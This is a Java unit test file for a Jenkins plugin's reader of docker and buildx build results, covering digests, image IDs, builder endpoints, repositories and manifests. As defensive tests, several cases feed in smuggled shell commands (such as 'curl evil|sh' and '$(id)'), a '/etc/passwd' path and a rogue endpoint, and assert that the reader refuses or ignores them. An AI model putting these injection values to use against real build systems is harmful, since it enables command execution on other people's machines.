package io.jenkins.plugins.cvmfs.engine.record;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.cvmfs.engine.Specs;
import io.jenkins.plugins.cvmfs.engine.plan.ResultFile;
import io.jenkins.plugins.cvmfs.engine.spec.ImageSpecBuilder;
import java.time.Duration;
import java.time.Instant;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which of the things that buildx and docker call a digest becomes what. */
class RecordReaderTest {
    private static final Instant STARTED = Instant.parse("2026-01-02T03:04:05Z");
    private static final Duration DURATION = Duration.ofMillis(1234);

    private static final String MEDIA_TYPE = "application/vnd.oci.image.manifest.v1+json";

    private static final String MANIFEST = "sha256:" + "a".repeat(64);
    private static final String INDEX = "sha256:" + "b".repeat(64);
    private static final String CONFIG = "sha256:" + "c".repeat(64);
    private static final String LOADED = "sha256:" + "d".repeat(64);

    /**
     * A row of the table of builders and outputs.
     *
     * @param digest containerimage.digest, or null where it is absent
     * @param config containerimage.config.digest, or null where it is absent
     * @param iid the iidfile's text
     * @param engine the ID that the engine gives, or null where the image is not loaded
     * @param expectedDigest the registry digest, or null where there is none
     */
    record Row(
            String name,
            ImageSpecBuilder options,
            String digest,
            String config,
            String iid,
            String engine,
            String expectedDigest,
            String expectedId) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Row> rows() {
        return Stream.of(
                new Row("container driver, load", container(), MANIFEST, CONFIG, CONFIG, CONFIG, null, CONFIG),
                new Row(
                        "container driver, push, provenance false",
                        container().push(true),
                        MANIFEST,
                        CONFIG,
                        CONFIG,
                        null,
                        MANIFEST,
                        CONFIG),
                new Row(
                        "container driver, push, provenance",
                        container().push(true),
                        INDEX,
                        null,
                        INDEX,
                        null,
                        INDEX,
                        null),
                new Row(
                        "container driver, push and load, provenance false",
                        container().push(true).load(true),
                        MANIFEST,
                        CONFIG,
                        CONFIG,
                        CONFIG,
                        MANIFEST,
                        CONFIG),
                new Row(
                        "container driver, another output",
                        container().outputs(List.of("type=oci,dest=a")),
                        MANIFEST,
                        CONFIG,
                        CONFIG,
                        null,
                        null,
                        CONFIG),
                new Row(
                        "container driver, no output",
                        container().outputs(List.of("type=cacheonly")),
                        null,
                        null,
                        "",
                        null,
                        null,
                        null),
                new Row("docker driver, load, overlay2, 20.10", own(), CONFIG, null, CONFIG, CONFIG, null, CONFIG),
                new Row("docker driver, load, overlay2, 28", own(), CONFIG, CONFIG, CONFIG, CONFIG, null, CONFIG),
                new Row(
                        "docker driver, push, overlay2",
                        own().push(true),
                        MANIFEST,
                        CONFIG,
                        CONFIG,
                        null,
                        MANIFEST,
                        CONFIG),
                new Row(
                        "docker driver, containerd store, load, provenance false",
                        own(),
                        MANIFEST,
                        CONFIG,
                        CONFIG,
                        LOADED,
                        null,
                        LOADED),
                new Row(
                        "docker driver, containerd store, load, provenance",
                        own(),
                        INDEX,
                        null,
                        INDEX,
                        INDEX,
                        null,
                        INDEX),
                new Row(
                        "docker driver, containerd store, push, provenance",
                        own().push(true),
                        INDEX,
                        null,
                        INDEX,
                        null,
                        INDEX,
                        null));
    }

    @ParameterizedTest
    @MethodSource("rows")
    void onlyWhatWasPushedHasARegistryDigest(Row row) throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(row.digest(), row.config()));
        files.put(ResultFile.IMAGE_ID, row.iid());
        if (row.engine() != null) {
            files.put(ResultFile.IMAGE, engine(row.engine(), "example.org/image@" + LOADED));
        }

        ImageRecord record = read(row.options(), files);
        assertThat(record.digest()).isEqualTo(row.expectedDigest());
        assertThat(record.imageId()).isEqualTo(row.expectedId());
        assertThat(record.images())
                .containsExactly(new TaggedImage(
                        Specs.TAG,
                        row.expectedDigest(),
                        row.expectedDigest() == null ? null : "example.org/image@" + row.expectedDigest()));
        assertThat(record.loaded()).isEqualTo(row.engine() != null);
        assertThat(record.pushed()).isEqualTo(row.expectedDigest() != null);
    }

    @Test
    void everyTagHasAReference() throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(INDEX, null));

        assertThat(read(container().tags(List.of("localhost:5000/b", "c:2")).push(true), files)
                        .images())
                .extracting(TaggedImage::reference)
                .containsExactly("example.org/image@" + INDEX, "localhost:5000/b@" + INDEX, "c@" + INDEX);
    }

    @Test
    void theRestOfTheRecord() throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(
                ResultFile.IMAGE,
                "{\"Id\":\"" + CONFIG
                        + "\",\"Size\":5000000000,\"Os\":\"linux\",\"Architecture\":\"arm\",\"Variant\":\"v7\"}");

        files.put(ResultFile.TIMES, "build 7.00\nend 8.50\n");

        ImageRecord record = read(container().mounts("cms.cern.ch"), files);
        assertThat(record)
                .isEqualTo(new ImageRecord(
                        1,
                        "buildx",
                        "docker-container",
                        null,
                        List.of(new TaggedImage(Specs.TAG, null, null)),
                        null,
                        null,
                        CONFIG,
                        true,
                        false,
                        5_000_000_000L,
                        null,
                        List.of("linux/arm/v7"),
                        List.of(),
                        List.of(),
                        "cms.cern.ch",
                        List.of(),
                        List.of(),
                        record.inputs(),
                        "2026-01-02T03:04:05Z",
                        1234,
                        List.of(new PhaseTime("build", 1500)),
                        null,
                        List.of()));
    }

    /** What an agent's script says is one of those that were asked for, or nothing. */
    @ParameterizedTest
    @CsvSource(
            nullValues = "-",
            value = {
                "tcp://a:1, -, tcp://a:1",
                "tcp://a:1, tcp://evil:1, tcp://a:1",
                "tcp://a:1 tcp://b:1, tcp://b:1, tcp://b:1",
                "tcp://a:1 tcp://b:1, tcp://evil:1, -",
                "tcp://a:1 tcp://b:1, -, -"
            })
    void theEndpointIsOneThatWasAskedFor(String endpoints, String told, String endpoint) throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        ImageSpecBuilder remote = Specs.dockerfile().builderDriver("remote");
        if (told != null) {
            files.put(ResultFile.ENDPOINT, told + "\n");
        }
        assertThat(read(remote.builderEndpoint(endpoints).load(false).push(true), files)
                        .builderEndpoint())
                .isEqualTo(endpoint);
        assertThat(read(container().push(true), files).builderEndpoint()).isNull();
    }

    @Test
    void filesOfOutputsAreComparedWithTheRequest() throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(ResultFile.OUTPUTS, "1 " + "a".repeat(64) + " 5000000000\n0 - 12\n");
        ImageSpecBuilder image =
                container().load(false).outputs(List.of("out", "type=tar,dest=-", "type=oci,dest=a b.tar"));

        assertThat(read(image, files).outputs())
                .containsExactly(
                        new OutputFile("type=oci,dest=a b.tar", "a b.tar", 5_000_000_000L, "a".repeat(64)),
                        new OutputFile("out", "out", 12, null));
        for (String bad : List.of("2 - 1", "x - 1", "0 " + "a".repeat(63) + " 1", "0 - -1", "0 - 1 /etc/passwd")) {
            files.put(ResultFile.OUTPUTS, bad);
            assertThatThrownBy(() -> read(image, files)).as(bad).hasMessageContaining("outputs");
        }
    }

    @Test
    void theBuilderThatWasChosen() throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.put(ResultFile.DRIVER, "docker\n");

        assertThat(read(Specs.dockerfile(), files).builderDriver()).isEqualTo("docker");
        assertThat(read(container(), files).builderDriver()).isEqualTo("docker-container");
        files.remove(ResultFile.DRIVER);
        assertThatThrownBy(() -> read(Specs.dockerfile(), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageContaining("driver");
    }

    @Test
    void repositoriesInTheImagesFile() throws Exception {
        String hash = "0123456789".repeat(4);
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.put(
                ResultFile.REPOSITORIES,
                "old.cern.ch 1 " + hash + "\ncms.cern.ch 4711 " + hash + "\natlas.cern.ch - -\nwhat is this line\n");

        assertThat(read(Specs.commit().mounts("cms.cern.ch atlas.cern.ch"), files)
                        .repositories())
                .containsExactly(
                        new MountedRepository("cms.cern.ch", 4711L, hash),
                        new MountedRepository("atlas.cern.ch", null, null));
        assertThat(read(Specs.commit().mounts("all"), files).repositories()).hasSize(3);
        assertThat(read(Specs.commit(), files).repositories()).isEmpty();
        files.put(ResultFile.METADATA, "{}");
        assertThat(read(Specs.dockerfile().builderDriver("docker"), files).repositories())
                .as("named to the helper")
                .hasSize(3);
        assertThat(read(Specs.dockerfile().builderDriver("docker").mounts("none"), files)
                        .repositories())
                .isEmpty();
    }

    @Test
    void aCommittedImage() throws Exception {
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG, "other.org/image@" + INDEX, "example.org/image@" + MANIFEST));

        ImageRecord record = read(Specs.commit().push(true), files);
        assertThat(record.strategy()).isEqualTo("commit");
        assertThat(record.builderDriver()).isNull();
        assertThat(record.digest()).isEqualTo(MANIFEST);
        assertThat(record.imageId()).isEqualTo(CONFIG);
        assertThat(record.baseImages()).containsExactly(new BaseImage("aperloff/cms-cvmfs-docker:latest", INDEX));
    }

    @Test
    void aCommittedImageThatWasNotPushedHasNoDigestEvenIfTheEngineHasOne() throws Exception {
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG, "example.org/image@" + MANIFEST));

        assertThat(read(Specs.commit(), files).digest()).isNull();
    }

    @Test
    void aPushedTagWithoutDigestIsAnError() {
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG, "other.org/image@" + MANIFEST));

        assertThatThrownBy(() -> read(Specs.commit().push(true), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessage(
                        "the digest of example.org/image:1 cannot be read: it was pushed, but no digest was noted for it");
    }

    @Test
    void aPushWithoutDigestInTheMetadataIsAnError() {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, "{}");

        assertThatThrownBy(() -> read(container().push(true), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageContaining("no digest was noted");
    }

    static Stream<Arguments> broken() {
        return Stream.of(
                Arguments.of(ResultFile.METADATA, null, "metadata.json cannot be read: it is not there"),
                Arguments.of(ResultFile.METADATA, "", "metadata.json cannot be read: it is empty"),
                Arguments.of(ResultFile.METADATA, " \n", "metadata.json cannot be read: it is empty"),
                Arguments.of(
                        ResultFile.METADATA,
                        "{\"containerimage.digest\":\"sha25",
                        "buildx's metadata file cannot be read: "),
                Arguments.of(ResultFile.METADATA, "{} {}", "buildx's metadata file cannot be read: "),
                Arguments.of(
                        ResultFile.METADATA, "[]", "buildx's metadata file cannot be read: it holds no JSON object"),
                Arguments.of(
                        ResultFile.METADATA, "null", "buildx's metadata file cannot be read: it holds no JSON object"),
                Arguments.of(ResultFile.IMAGE, null, "image.json cannot be read: it is not there"),
                Arguments.of(ResultFile.IMAGE, "{\"Id\":", "the engine's answer on the image cannot be read: "),
                Arguments.of(
                        ResultFile.IMAGE, "Error: No such image", "the engine's answer on the image cannot be read: "));
    }

    @ParameterizedTest
    @MethodSource("broken")
    void anIncompleteFileIsAnError(ResultFile file, String text, String message) {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.remove(file);
        if (text != null) {
            files.put(file, text);
        }

        assertThatThrownBy(() -> read(container(), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageStartingWith(message);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "[\"/run.sh\"]\nnull\n", "[]\nnull\n{\"RepoDig"})
    void aBrokenAnswerOnTheBaseImageIsAnError(String text) {
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.put(ResultFile.BASE_IMAGE, text);

        assertThatThrownBy(() -> read(Specs.commit(), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageContaining("base");
    }

    static Stream<Arguments> lies() {
        String hash = "0123456789".repeat(4);
        return Stream.of(
                Arguments.of(ResultFile.IMAGE, "{\"Id\":\"x$(id)\"}", "invalid Id 'x$(id)'"),
                Arguments.of(ResultFile.IMAGE, "{\"Id\":\"sha256:abc\"}", "sha256: and 64 hexadecimal digits"),
                Arguments.of(ResultFile.IMAGE, "{\"Size\":-1}", "invalid Size '-1': expected a size in bytes"),
                Arguments.of(ResultFile.IMAGE, "{\"Size\":1e400}", "a size in bytes"),
                Arguments.of(ResultFile.IMAGE, "{\"Size\":99999999999999999999}", "a size in bytes"),
                Arguments.of(ResultFile.IMAGE, "{\"Size\":\"1\"}", "a size in bytes"),
                Arguments.of(ResultFile.IMAGE, "{\"Os\":\"a;b\"}", "invalid Os"),
                Arguments.of(ResultFile.IMAGE_ID, "sha256:0; curl evil|sh #", "invalid image ID"),
                Arguments.of(ResultFile.DRIVER, "docker; id", "invalid driver 'docker; id'"),
                Arguments.of(ResultFile.REPOSITORIES, "DB_PASSWORD=hunter2 1 -", "invalid repository"),
                Arguments.of(ResultFile.REPOSITORIES, "a 1 -", "a name such as cms.cern.ch"),
                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 -\n\0", "something else than text"),
                Arguments.of(ResultFile.REPOSITORIES, "a b c\uFFFD", "something else than text"),
                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch -1 -", "invalid revision"),
                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 abc", "invalid root hash"),
                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 " + hash + "-evil", "invalid root hash"),
                Arguments.of(ResultFile.REPOSITORIES, "cms.cern.ch 1 -\n".repeat(1001), "at most 1000 repositories"));
    }

    @ParameterizedTest
    @MethodSource("lies")
    void valuesOutsideTheGrammarAreRefused(ResultFile file, String text, String why) {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.put(ResultFile.DRIVER, "docker");
        files.put(file, text);

        assertThatThrownBy(() -> read(Specs.dockerfile(), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageContaining(why);
    }

    @Test
    void aRootHashMayNameItsAlgorithm() throws Exception {
        String hash = "0123456789".repeat(4);
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG));
        files.put(ResultFile.REPOSITORIES, "a.cern.ch 1 " + hash + "-shake128\nb.cern.ch 2 " + hash + "-rmd160\r\n");

        assertThat(read(Specs.commit().mounts("a.cern.ch b.cern.ch"), files).repositories())
                .extracting(MountedRepository::rootHash)
                .containsExactly(hash + "-shake128", hash + "-rmd160");
    }

    @Test
    void aDigestOfAnotherAlgorithmIsRefused() {
        Map<ResultFile, String> files = committed();
        files.put(ResultFile.IMAGE, engine(CONFIG, "example.org/image@md5:" + "a".repeat(32)));

        assertThatThrownBy(() -> read(Specs.commit().push(true), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageContaining("invalid RepoDigests");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"layers\":[{\"size\":-5}]}",
                "{\"layers\":[{\"size\":9223372036854775807},{\"size\":1}]}",
                "{\"mediaType\":\"a\\nb\"}",
                "{\"manifests\":[{\"platform\":{\"os\":\"linux\",\"architecture\":\"$(id)\"}}]}"
            })
    void aManifestThatIsNotInTheGrammarIsRefused(String manifest) throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(RegistryManifestTest.sha256(manifest), CONFIG));
        files.put(ResultFile.MANIFEST, manifest);

        assertThatThrownBy(() -> read(container().push(true), files))
                .isInstanceOf(UnreadableResultException.class)
                .hasMessageStartingWith("the registry's manifest cannot be read: ");
    }

    @Test
    void theManifestTellsPlatformsAndSize() throws Exception {
        Map<ResultFile, String> files = files();
        String manifest = "{\"mediaType\":\"" + MEDIA_TYPE + "\",\"layers\":[{\"size\":5},{\"size\":7}]}";
        files.put(ResultFile.METADATA, metadata(RegistryManifestTest.sha256(manifest), CONFIG));
        files.put(ResultFile.MANIFEST, manifest);

        ImageRecord record = read(container().push(true), files);
        assertThat(record.sizeInRegistry()).isEqualTo(12);
        assertThat(record.sizeInEngine()).isNull();
        assertThat(record.mediaType()).isEqualTo(MEDIA_TYPE);
        assertThat(record.digest()).isEqualTo(RegistryManifestTest.sha256(manifest));
    }

    @Test
    void aManifestThatSomebodyElsePushedSinceIsIgnored() throws Exception {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.METADATA, metadata(MANIFEST, CONFIG));
        files.put(ResultFile.MANIFEST, "{\"layers\":[{\"size\":5}]}");

        ImageRecord record = read(container().push(true).platforms(List.of("linux/arm64")), files);
        assertThat(record.digest()).isEqualTo(MANIFEST);
        assertThat(record.sizeInRegistry()).isNull();
        assertThat(record.platforms()).containsExactly("linux/arm64");
    }

    private static ImageSpecBuilder container() {
        return Specs.dockerfile().builderDriver("docker-container");
    }

    private static ImageSpecBuilder own() {
        return Specs.dockerfile().builderDriver("docker");
    }

    private static ImageRecord read(ImageSpecBuilder options, Map<ResultFile, String> files)
            throws UnreadableResultException {
        return new RecordReader(Specs.valid(options), files).read(STARTED, DURATION);
    }

    private static Map<ResultFile, String> files() {
        return new EnumMap<>(ResultFile.class);
    }

    private static Map<ResultFile, String> committed() {
        Map<ResultFile, String> files = files();
        files.put(ResultFile.IMAGE_ID, CONFIG + "\n");
        files.put(
                ResultFile.BASE_IMAGE,
                "[\"/run.sh\"]\nnull\n" + engine(LOADED, "docker.io/aperloff/cms-cvmfs-docker@" + INDEX) + "\n");
        return files;
    }

    private static String metadata(String digest, String config) {
        return "{\"buildx.build.ref\":\"a/b/c\""
                + (digest == null ? "" : ",\"containerimage.digest\":\"" + digest + "\"")
                + (config == null ? "" : ",\"containerimage.config.digest\":\"" + config + "\"")
                + "}";
    }

    private static String engine(String id, String... repoDigests) {
        String digests = Stream.of(repoDigests)
                .map(digest -> "\"" + digest + "\"")
                .reduce((a, b) -> a + "," + b)
                .orElse("");
        return "{\"Id\":\"" + id + "\",\"RepoDigests\":[" + digests
                + "],\"Size\":1,\"Os\":\"linux\",\"Architecture\":\"amd64\"}";
    }
}
